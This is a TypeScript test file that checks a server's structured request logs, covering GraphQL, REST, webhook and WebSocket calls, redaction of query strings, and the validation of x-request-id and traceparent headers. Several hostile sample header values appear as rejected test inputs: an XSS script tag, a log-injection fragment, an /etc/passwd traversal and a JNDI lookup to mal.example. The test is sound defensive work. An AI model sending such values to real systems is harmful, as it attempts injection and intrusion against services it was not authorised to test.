import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { request as httpRequest, type IncomingHttpHeaders, type OutgoingHttpHeaders } from 'node:http';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebSocket } from 'ws';
import { connectionInit } from '../seed/live.ts';
import { firstAnswer } from '../seed/operations.ts';
import type { Owner } from '../seed/owner.ts';
import { aServer, type TestServer } from '../seed/server.ts';

let server: TestServer;
let owner: Owner;
beforeAll(async () => {
  server = await aServer();
  owner = await server.anOwner({ plan: 'plano_voo' });
});
afterAll(() => server.stop());

type Line = Record<string, unknown>;

/** The lines of the calls that the work makes and that are answered. */
async function linesOf(work: () => Promise<unknown>, count = 1): Promise<Line[]> {
  const before = server.logged.length;
  const answered = () =>
    server.logged
      .slice(before)
      .map((line) => JSON.parse(line) as Line)
      .filter(({ message }) => message === 'request completed');
  await work();
  await expect.poll(() => answered().length).toBeGreaterThanOrEqual(count);
  return answered();
}

const lineOf = async (work: () => Promise<unknown>) => (await linesOf(work))[0]!;

/** A request with headers that fetch would not send; the headers of its answer. */
async function send(headers: OutgoingHttpHeaders, path = '/live'): Promise<IncomingHttpHeaders> {
  const { hostname, port } = new URL(server.url);
  const request = httpRequest({ hostname, port, path, headers });
  request.end();
  const [response] = (await once(request, 'response')) as [{ headers: IncomingHttpHeaders; resume(): void }];
  response.resume();
  return response.headers;
}

const uuid = /^[\da-f]{8}-[\da-f]{4}-4[\da-f]{3}-[\da-f]{4}-[\da-f]{12}$/;
const generate = 'mutation Texto($input: GenerateCopyInput!) { generateCopy(input: $input) { __typename } }';

describe('the log line of a call', () => {
  it('the line of a GraphQL query names its operation, outcome and time', async () => {
    const line = await lineOf(() => owner.graphql('query Eu { viewer { id } }'));
    expect(line).toMatchObject({ method: 'POST', path: '/graphql', operation: 'Eu', status: 200, outcome: 'ok' });
    expect(line['ms']).toBeTypeOf('number');
  });

  it('the line of a mutation names the failure in its result, whose status is 200', async () => {
    const input = { contentType: 'POST_INSTAGRAM', topic: ' ', requestId: randomUUID() };
    const line = await lineOf(() => owner.graphql(generate, { input }));
    expect(line).toMatchObject({ operation: 'Texto', status: 200, outcome: 'INVALID_BRIEF' });
  });

  it.each([
    ['without a token', '{ viewer { id } }', 'UNAUTHENTICATED'],
    ['that the schema refuses', '{ nothingSuch }', 'GRAPHQL_VALIDATION_FAILED'],
    ['that is no document', '{{{', 'GRAPHQL_PARSE_FAILED'],
  ])('the line of an operation %s names its outcome', async (_case, query, outcome) => {
    const line = await lineOf(() => server.visitor('POST', '/graphql', { query }));
    expect(line).toMatchObject({ path: '/graphql', outcome });
    expect(line).not.toHaveProperty('operation');
  });

  it.each([
    '/api/get-generation-history?search=SEGREDO',
    '/api/unsubscribe?u=SEGREDO&k=SEGREDO',
    '/graphql?query=%7BSEGREDO%7D',
    '/nada?SEGREDO',
    '/?SEGREDO?SEGREDO',
  ])('the line of a call of %s has the path alone', async (url) => {
    const line = await lineOf(() => fetch(`${server.url}${url}`));
    expect(line).toMatchObject({ path: url.slice(0, url.indexOf('?')) });
    expect(JSON.stringify(line)).not.toContain('SEGREDO');
  });

  it('the line of a REST call names its route, and of one that fails its failure', async () => {
    expect(await lineOf(() => owner.call('GET', '/api/get-generation-history'))).toMatchObject({
      operation: 'GET /get-generation-history',
      status: 200,
      outcome: 'ok',
    });
    expect(await lineOf(() => owner.click({ keywords: ' ' }))).toMatchObject({
      operation: 'POST /generate-content',
      status: 422,
      outcome: 'INVALID_BRIEF',
    });
    expect(await lineOf(() => owner.call('POST', '/api/generate-content', '{'))).toMatchObject({
      operation: 'POST /generate-content',
      status: 400,
      outcome: 'BAD_REQUEST',
    });
    expect(await lineOf(() => server.visitor('GET', '/api/nothing'))).toMatchObject({
      status: 404,
      outcome: 'NOT_FOUND',
    });
  });

  it('the line of a webhook names its operation and outcome', async () => {
    const line = await lineOf(() => server.visitor('POST', '/api/stripe-webhook', {}));
    expect(line).toMatchObject({ operation: 'POST /stripe-webhook', status: 400, outcome: 'INVALID_SIGNATURE' });
  });

  it('an operation over a WebSocket has a line when it ends', async () => {
    const line = await lineOf(() => firstAnswer(owner.socket(), 'query Eu { viewer { id } }'));
    expect(line).toMatchObject({ method: 'WEBSOCKET', path: '/graphql', operation: 'Eu', outcome: 'ok' });
    const input = { contentType: 'POST_INSTAGRAM', topic: ' ', requestId: randomUUID() };
    expect(await lineOf(() => firstAnswer(owner.socket(), generate, { input }))).toMatchObject({
      operation: 'Texto',
      outcome: 'INVALID_BRIEF',
    });
    const written = 'subscription S($input: GenerateCopyInput!) { copyWriting(input: $input) { __typename } }';
    expect(await lineOf(() => firstAnswer(owner.socket(), written, { input }))).toMatchObject({
      operation: 'S',
      outcome: 'INVALID_BRIEF',
    });
    expect(await lineOf(() => firstAnswer(owner.socket(), '{ nothingSuch }'))).toMatchObject({
      outcome: 'GRAPHQL_VALIDATION_FAILED',
    });
  });

  it('the line of a call names it when the client left before the answer', async () => {
    const line = await lineOf(async () => {
      const { hostname, port } = new URL(server.url);
      const socket = connect(Number(port), hostname);
      await once(socket, 'connect');
      socket.write(
        'POST /graphql HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 90\r\n\r\n{"q',
      );
      await new Promise((resolve) => setTimeout(resolve, 50));
      socket.resetAndDestroy();
    });
    expect(line).toMatchObject({ path: '/graphql', status: 499 });
  });

  it('a line has at most 64 characters of the name that the client gave its operation', async () => {
    const line = await lineOf(() => owner.graphql(`query ${'N'.repeat(128)} { viewer { id } }`));
    expect(line['operation']).toBe('N'.repeat(64));
  });
});

describe('x-request-id', () => {
  it.each(['req-12345678', 'a1b2c3d4', randomUUID(), 'X'.repeat(64)])(
    'the x-request-id %s is used as the request id',
    async (id) => {
      let headers: IncomingHttpHeaders = {};
      const line = await lineOf(async () => (headers = await send({ 'x-request-id': id })));
      expect([line['requestId'], headers['x-request-id']]).toEqual([id, id]);
    },
  );

  it.each([
    'short',
    'x'.repeat(65),
    'x'.repeat(1_000),
    'two words-here',
    '<script>alert(1)</script>',
    '","level":"error","x":"',
    '../../etc/passwd',
    '${jndi:ldap://mal.example}',
    '\u00e7\u00e3o-\u00e7\u00e3o-\u00e7\u00e3o',
    '\u001b[31mvermelho',
    ['first-id-1', 'second-id-2'],
  ])('the x-request-id %j is replaced by a new id', async (id) => {
    let headers: IncomingHttpHeaders = {};
    const line = await lineOf(async () => {
      headers = await send({ 'x-request-id': id }).catch(() => ({}));
      // What no client can send comes as another one's.
      if (headers['x-request-id'] === undefined) headers = await send({ 'x-request-id': 'x' });
    });
    expect(line['requestId']).toMatch(uuid);
    expect(headers['x-request-id']).toBe(line['requestId']);
  });
});

describe('traceparent', () => {
  const traceId = '0af7651916cd43dd8448eb211c80319c';
  const given = `00-${traceId}-b7ad6b7169203331-01`;

  it('a traceparent is copied into the line and the answer', async () => {
    let headers: IncomingHttpHeaders = {};
    const line = await lineOf(async () => (headers = await send({ traceparent: given })));
    expect([line['traceId'], headers['traceparent']]).toEqual([traceId, given]);
  });

  it.each([
    '',
    'lixo',
    given.toUpperCase(),
    `${given}-extra`,
    `01${given.slice(2)}`,
    `ff${given.slice(2)}`,
    `00-${'0'.repeat(32)}-b7ad6b7169203331-01`,
    `00-${traceId}-${'0'.repeat(16)}-01`,
    `00-${traceId}"}{-b7ad6b7169203331-01`,
    `00-${traceId}-b7ad6b7169203331-01, ${given}`,
  ])('the traceparent %j is ignored', async (traceparent) => {
    let headers: IncomingHttpHeaders = {};
    const line = await lineOf(async () => (headers = await send({ traceparent })));
    expect(line).not.toHaveProperty('traceId');
    expect(headers).not.toHaveProperty('traceparent');
  });
});

it('a WebSocket copies the ids of its upgrade into the lines of its operations', async () => {
  const headers = { 'x-request-id': 'proxy-id-1234', traceparent: `00-${'a'.repeat(32)}-${'b'.repeat(16)}-01` };
  const socket = new WebSocket(`${server.url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', { headers });
  const opened = once(socket, 'open');
  const [response] = (await once(socket, 'upgrade')) as [{ headers: IncomingHttpHeaders }];
  expect(response.headers['x-request-id']).toBe('proxy-id-1234');
  const line = await lineOf(async () => {
    await opened;
    socket.send(JSON.stringify(connectionInit(owner.token)));
    await once(socket, 'message');
    socket.send(JSON.stringify({ id: '1', type: 'subscribe', payload: { query: 'query Eu { viewer { id } }' } }));
    await once(socket, 'message');
  });
  expect(line).toMatchObject({ socketId: 'proxy-id-1234', traceId: 'a'.repeat(32), operation: 'Eu' });
  expect(line['requestId']).toMatch(uuid);
  socket.close();
});
